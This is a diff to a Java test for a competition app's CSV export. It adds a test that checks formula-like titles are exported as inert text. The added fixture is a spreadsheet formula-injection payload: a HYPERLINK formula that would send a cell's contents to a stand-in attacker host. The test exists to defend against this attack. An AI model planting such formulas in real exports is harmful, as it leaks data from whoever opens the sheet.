@@ -37,6 +37,8 @@ class ExportTest {
     /** Typed in NFD (ো as ে + া): the export must read back as the NFC form. */
     static final String BENGALI_TITLE = Normalizer.normalize("অনন্যার পোস্টার: প্রিয়া আর ঋত্বিক", Normalizer.Form.NFD);
     static final String DEVANAGARI_TITLE = "ज्ञानेश और प्रिया की कहानी";
+    /** A title a spreadsheet would run as a formula, had the export not made it text. */
+    static final String FORMULA_TITLE = "=HYPERLINK(\"https://evil.example/?d=\"&C2,\"open\")";
     static String bengaliSchool;
     static String devanagariSchool;
     static long cid;
@@ -56,12 +58,14 @@ class ExportTest {
         Fixtures.Account hi = Fixtures.school(devanagariSchool);
         long a = Fixtures.submittedEntry(bn, cid, "poster", BENGALI_TITLE, List.of("Lina"), "posters/poster-01.jpg");
         long b = Fixtures.submittedEntry(hi, cid, "poster", DEVANAGARI_TITLE, List.of("Mira"), "posters/poster-02.jpg");
+        long f = Fixtures.submittedEntry(hi, cid, "poster", FORMULA_TITLE, List.of("Tara"), "posters/poster-01.jpg");
         Fixtures.Account juror = Fixtures.juror(Fixtures.unique("Juror"));
         Fixtures.jury(cid, List.of(juror));
         Fixtures.transition(cid, "JUDGING");
         Fixtures.assign(cid, 1);
         Fixtures.score(juror, a, 9, 8, 7);
         Fixtures.score(juror, b, 7, 6, 9);
+        Fixtures.score(juror, f, 3, 3, 3);
         Fixtures.freeze(cid);
         competition = title;
     }
@@ -126,6 +130,15 @@ class ExportTest {
         assertThat(records).extracting(r -> r.get("School")).contains(bengaliSchool, devanagariSchool);
         assertThat(records).extracting(r -> r.get("Score")).allMatch(s -> s.matches("\\d+\\.\\d{2}"));
         assertThat(Arrays.copyOf(get("shortlist.csv", null), 3)).containsExactly(0xEF, 0xBB, 0xBF);
+    }
+
+    @Test
+    void aCellASpreadsheetWouldRunAsAFormulaIsText() throws Exception {
+        byte[] csv = get("ranking.csv", null);
+        List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8))).getRecords();
+        assertThat(records).extracting(r -> r.get("Title")).contains("'" + FORMULA_TITLE)
+                .noneMatch(t -> t.startsWith("="));
     }
 
     @Test
